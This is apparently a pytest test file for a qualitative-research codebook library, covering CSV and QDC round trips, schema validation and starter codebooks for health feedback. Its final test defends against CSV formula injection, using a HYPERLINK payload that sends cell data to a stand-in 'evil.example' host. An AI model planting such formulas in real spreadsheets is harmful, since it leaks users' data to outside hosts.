import csv
from importlib import resources
from pathlib import Path

import pytest
from lxml import etree

from chorus.coding.codebook import (
    Codebook,
    CodebookError,
    Theme,
    codebook_from_csv,
    codebook_from_qdc,
    codebook_to_csv,
    codebook_to_qdc,
    description_with_examples,
    load_starter,
    read_csv,
    read_qdc,
    split_description,
    starter_names,
    theme_guid,
    validate_qdc,
    write_csv,
    write_qdc,
)

FIXTURES = Path(__file__).with_name("fixtures_codebooks")
COMMUNITY_TOP_LEVEL = [
    "housing",
    "air-quality",
    "smoking",
    "breathing",
    "money",
    "isolation",
    "transport",
    "gp-access",
    "dentist-access",
    "mental-health",
    "screening",
    "trust",
    "food",
    "physical-activity",
    "safety",
    "caring",
    "digital",
    "language",
]


def small_codebook() -> Codebook:
    return Codebook(
        name="test book",
        themes=[
            Theme(
                "housing", 'Housing, damp & "mould"', "Homes; cost, state, security.", ["It's cold", "Rent"]
            ),
            Theme("housing/damp", "Damp", "Damp and mould.", ["Wet walls"], "housing"),
            Theme("money", "Money", "", []),
            Theme(
                "housing/damp/kids",
                "Children",
                "Children's chests, ünïcode",
                ["My son's cough"],
                "housing/damp",
            ),
        ],
    )


def fft_theme_columns(shared_data: Path) -> tuple[list[str], list[dict[str, str]]]:
    with open(shared_data / "feedback" / "nhs_fft_dev.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    header = list(rows[0])
    return header[header.index("Comment sentiment") + 1 :], rows


def test_both_starter_codebooks_are_shipped():
    assert starter_names() == ["community_health", "nhs_patient_experience"]


@pytest.mark.parametrize("name", ["community_health", "nhs_patient_experience"])
def test_shipped_csv_round_trips_to_the_same_text(name):
    shipped = (resources.files("chorus.coding") / "codebooks" / f"{name}.csv").read_text(encoding="utf-8")
    book = load_starter(name)
    assert codebook_to_csv(book) == shipped
    assert codebook_from_csv(shipped, name) == book


def test_nhs_codebook_leaves_are_exactly_the_fft_theme_columns(shared_data):
    columns, _ = fft_theme_columns(shared_data)
    book = load_starter("nhs_patient_experience")
    assert sorted(theme.name for theme in book.leaves()) == sorted(columns)
    assert all(book.depth(theme.id) == 1 for theme in book.leaves())
    assert {"General", "Staff", "Communication & involvement", "Environment & equipment"} <= {
        theme.name for theme in book.roots()
    }
    assert book.by_name("Parking").parent_id == "service-location"


def test_nhs_examples_are_real_comments_labelled_with_their_theme(shared_data):
    columns, rows = fft_theme_columns(shared_data)
    book = load_starter("nhs_patient_experience")
    for theme in book.leaves():
        labelled = {" ".join(row["FFT answer"].split()) for row in rows if row[theme.name].strip()} - {""}
        assert len(theme.examples) <= 3
        if len(labelled) >= 2 and theme.name != "Safeguarding concerns?":
            assert len(theme.examples) >= 2, theme.name
        for example in theme.examples:
            assert example in labelled, (theme.name, example)
        assert theme.description.endswith(".")


def test_community_codebook_uses_the_fixed_topic_ids_with_sub_themes():
    book = load_starter("community_health")
    assert [theme.id for theme in book.roots()] == COMMUNITY_TOP_LEVEL
    assert book.get("housing").name == "Housing and damp"
    assert book.get("housing/damp-mould").parent_id == "housing"
    for theme in book.themes:
        assert 3 <= len(theme.examples) <= 5, theme.id
        assert theme.description
        if theme.parent_id:
            assert theme.id.startswith(theme.parent_id + "/")


def test_csv_round_trip_keeps_every_field():
    book = small_codebook()
    assert codebook_from_csv(codebook_to_csv(book), book.name) == book


def test_csv_file_round_trip(tmp_path):
    book = small_codebook()
    write_csv(book, tmp_path / "mine.csv")
    again = read_csv(tmp_path / "mine.csv")
    assert again.name == "mine"
    assert again.themes == book.themes


def test_csv_from_a_spreadsheet_tolerates_bom_column_order_case_and_extra_columns():
    text = (
        "\ufeffName,ID,Notes,Examples,Parent_ID\n"
        "Housing,housing,ignored,It's cold | Rent is high ,\n"
        "\n"
        "Damp,housing/damp,,,housing\n"
    )
    book = codebook_from_csv(text, "sheet")
    assert [theme.id for theme in book.themes] == ["housing", "housing/damp"]
    assert book.get("housing").examples == ["It's cold", "Rent is high"]
    assert book.get("housing").description == ""
    assert book.children("housing") == [book.get("housing/damp")]


def test_csv_without_a_name_column_says_which_column_is_missing():
    with pytest.raises(CodebookError, match="missing the column.*name"):
        codebook_from_csv("id,description\nhousing,Homes\n", "bad")


def test_csv_row_without_an_id_names_its_line():
    with pytest.raises(CodebookError, match="line 3"):
        codebook_from_csv("id,name\nhousing,Housing\n,Money\n", "bad")


@pytest.mark.parametrize(
    "themes, message",
    [
        ([Theme("a", "A"), Theme("a", "Again")], "more than once"),
        ([Theme("a", "A", parent_id="nowhere")], "unknown parent"),
        ([Theme("a", "A", parent_id="b"), Theme("b", "B", parent_id="a")], "own ancestor"),
        ([Theme("a", "A", examples=["one | two"])], "contains"),
    ],
)
def test_invalid_codebooks_are_refused(themes, message):
    with pytest.raises(CodebookError, match=message):
        Codebook(name="bad", themes=themes)


def test_adding_an_invalid_theme_leaves_the_codebook_unchanged():
    book = small_codebook()
    with pytest.raises(CodebookError):
        book.add(Theme("money", "Money again"))
    assert len(book) == 4


@pytest.mark.parametrize("name", ["community_health", "nhs_patient_experience"])
def test_qdc_export_validates_against_the_refi_schema(name):
    assert validate_qdc(codebook_to_qdc(load_starter(name))) == []


def test_schema_validation_reports_a_broken_codebook():
    broken = codebook_to_qdc(small_codebook()).replace(b'isCodable="true"', b'isCodable="perhaps"', 1)
    errors = validate_qdc(broken)
    assert errors and "isCodable" in errors[0]


def test_qdc_nests_sub_themes_and_keeps_examples_after_the_marker():
    xml = codebook_to_qdc(small_codebook()).decode("utf-8")
    assert "<Sets" not in xml  # an empty <Sets/> would not validate
    assert xml.index('name="Damp"') < xml.index('name="Children"') < xml.index('name="Money"')
    assert "Homes; cost, state, security.\n\nExamples:\n- It's cold\n- Rent</Description>" in xml


def test_qdc_round_trip_with_the_existing_codebook_gives_it_back():
    book = small_codebook()
    again = codebook_from_qdc(codebook_to_qdc(book), book.name, existing=book)
    # QDC lists children under their parent, so order follows the tree; content is identical.
    assert sorted(again.themes, key=lambda theme: theme.id) == sorted(book.themes, key=lambda theme: theme.id)


def test_qdc_guids_are_stable_between_exports_and_distinct_between_codebooks():
    book = small_codebook()
    assert codebook_to_qdc(book) == codebook_to_qdc(small_codebook())
    assert theme_guid("test book", "housing") == book.guid_for(book.get("housing"))
    assert theme_guid("test book", "housing") != theme_guid("other book", "housing")
    assert theme_guid("test book", "housing") != theme_guid("test book", "money")


def test_qdc_import_without_the_original_derives_ids_and_keeps_guids_for_re_export():
    book = small_codebook()
    exported = codebook_to_qdc(book)
    imported = codebook_from_qdc(exported, "copy")
    assert imported.get("housing-damp-mould/damp").examples == ["Wet walls"]
    assert imported.get("housing-damp-mould/damp/children").parent_id == "housing-damp-mould/damp"
    reexported = codebook_to_qdc(Codebook("copy", imported.themes))
    assert sorted(_guids(reexported)) == sorted(_guids(exported))


def test_qdc_from_other_tools_is_imported_tolerantly():
    book = read_qdc(FIXTURES / "other_tool.qdc")
    assert book.name == "other_tool"
    assert [theme.id for theme in book.themes] == [
        "access",
        "access/waiting-lists",
        "access/waiting-lists-2",
        "cafe-food",
    ]
    access = book.get("access")
    assert access.color == "#FF8800"
    assert access.guid == "0B2E8C4A-1D3F-4E5A-9B6C-7D8E9F0A1B2C"
    waiting = book.get("access/waiting-lists")
    assert waiting.description == "Waiting for treatment."
    assert waiting.examples == ["Eighteen months for counselling.", "Still waiting for my hip."]
    assert waiting.guid == "{1c3d5e7f-2a4b-4c6d-8e0f-1a2b3c4d5e6f}"
    assert book.get("access/waiting-lists-2").description == ""
    cafe = book.get("cafe-food")
    assert cafe.name == "Café & food"
    assert cafe.color is None  # "orange" is not an RGB colour the schema allows
    assert cafe.examples == []
    reexported = codebook_to_qdc(book)
    assert validate_qdc(reexported) == []
    assert "0B2E8C4A-1D3F-4E5A-9B6C-7D8E9F0A1B2C" in _guids(reexported)


def test_qdc_without_namespace_or_inside_a_project_file_is_read():
    bare = b'<CodeBook><Codes><Code guid="x" name="Trust" isCodable="true"/></Codes></CodeBook>'
    assert [theme.name for theme in codebook_from_qdc(bare, "bare").themes] == ["Trust"]
    project = (
        '<Project xmlns="urn:QDA-XML:project:1.0" name="p"><CodeBook><Codes>'
        '<Code guid="5a6b7c8d-0000-4000-8000-000000000001" name="Food" isCodable="true"/>'
        "</Codes></CodeBook></Project>"
    )
    assert [theme.id for theme in codebook_from_qdc(project, "project").themes] == ["food"]


@pytest.mark.parametrize("data", [b"not xml at all", b"<CodeBook><Other/></CodeBook>"])
def test_unreadable_qdc_is_a_codebook_error(data):
    with pytest.raises(CodebookError):
        codebook_from_qdc(data, "bad")


def test_an_empty_codebook_cannot_be_exported_as_qdc():
    with pytest.raises(CodebookError, match="empty"):
        codebook_to_qdc(Codebook(name="empty"))


def test_qdc_file_round_trip(tmp_path):
    book = load_starter("community_health")
    write_qdc(book, tmp_path / "community.qdc")
    again = read_qdc(tmp_path / "community.qdc", name=book.name, existing=book)
    assert again == book


def test_description_marker_is_only_read_when_followed_by_example_lines():
    text = description_with_examples("About damp.", ["Wet walls", "Mould"])
    assert split_description(text) == ("About damp.", ["Wet walls", "Mould"])
    assert split_description("Examples:\nthe word on its own line") == (
        "Examples:\nthe word on its own line",
        [],
    )
    assert description_with_examples("Only text.", []) == "Only text."


def _guids(xml: bytes) -> list[str]:
    return [element.get("guid") for element in etree.fromstring(xml).iter("{*}Code")]


def test_csv_export_writes_a_formula_theme_name_as_text_and_reads_it_back():
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    book = Codebook(
        name="Risky",
        themes=[
            Theme(id="risky", name=formula, description="+SUM(1,2)", examples=["@cmd", "fine"]),
        ],
    )
    text = codebook_to_csv(book)
    cells = list(csv.DictReader(text.splitlines()))[0]
    for column in ("name", "description", "examples"):
        assert cells[column].startswith("'"), (column, cells[column])
    assert codebook_from_csv(text, book.name) == book
